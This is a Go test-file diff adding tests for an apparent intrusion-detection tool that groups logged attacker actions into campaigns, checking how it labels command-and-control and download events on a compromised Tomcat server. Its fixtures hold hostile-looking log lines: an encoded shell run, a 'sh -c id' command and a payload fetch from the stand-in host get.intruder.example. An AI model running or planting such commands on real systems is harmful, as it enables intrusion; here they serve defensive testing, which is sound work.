@@ -226,3 +226,49 @@ func TestEnd(t *testing.T) {
 		t.Errorf("it ends at %s, last seen %s; want %s", c.Last, c.Key[len(c.Key)-1].Time, want)
 	}
 }
+
+// A server that was made to run a program is named; so are where a file was fetched from, and where the program then spoke to, which an
+// ordinary program's connection is not.
+func TestKeyEventsOfAServer(t *testing.T) {
+	actors := acted(t, `
+10 | host:web1 | | web1 | run execution/T1190 worked 4 1 | host:web1 | sysmon | "C:\Windows\System32\Shell.exe" -enc aaaa
+12 | host:web1 | | web1 | connect command-and-control/T1071 unknown 0.6 1 | address:10.7.0.9 | sysmon | 10.7.0.9:443
+13 | host:web1 | | web1 | copy command-and-control/T1105 worked 2 1 | domain:get.intruder.example | proxy | GET http://get.intruder.example/a.bin
+`)
+	deeds := actors[0].Deeds
+	deeds[0].Log, deeds[0].Tool, deeds[0].Marks = "windows", "getmethod", []string{"server:tomcat9"}
+	deeds[1].Tool = "shell"
+	keys := func() string { return keyed(build(actors).Campaigns[0]) }
+	const control = "12 control at web1 as  from : 10.7.0.9:443 → address:10.7.0.9, unknown, 1\n"
+	got := keys()
+	for _, want := range []string{control, "13 download at web1 as  from : GET http://get.intruder.example/a.bin → domain:get.intruder.example, worked, 1\n"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("lacks %s in\n%s", want, got)
+		}
+	}
+	for _, e := range build(actors).Campaigns[0].Key {
+		if want := map[string]string{"entry": "tomcat9"}[e.Kind]; e.Server != want {
+			t.Errorf("%s by the server %q, want %q", e.Kind, e.Server, want)
+		}
+	}
+	deeds[1].Tool = "updater"
+	if got := keys(); strings.Contains(got, "control") {
+		t.Errorf("another program's connection gives orders:\n%s", got)
+	}
+}
+
+// What describes a victim's server joins nobody.
+func TestServersJoinNobody(t *testing.T) {
+	actors := acted(t, `
+10 | address:203.0.113.9 | address:203.0.113.9 | web1 | run execution/T1190 worked 4 1 | host:web1 | a | sh -c id
+9000 | address:198.51.100.7 | address:198.51.100.7 | web2 | run execution/T1190 worked 4 1 | host:web2 | b | sh -c id
+`)
+	for _, a := range actors {
+		a.Deeds[0].Marks = []string{"server:tomcat9"}
+	}
+	for _, c := range build(actors).Campaigns {
+		if len(c.Actors) > 1 {
+			t.Errorf("joined by %v", c.Links)
+		}
+	}
+}
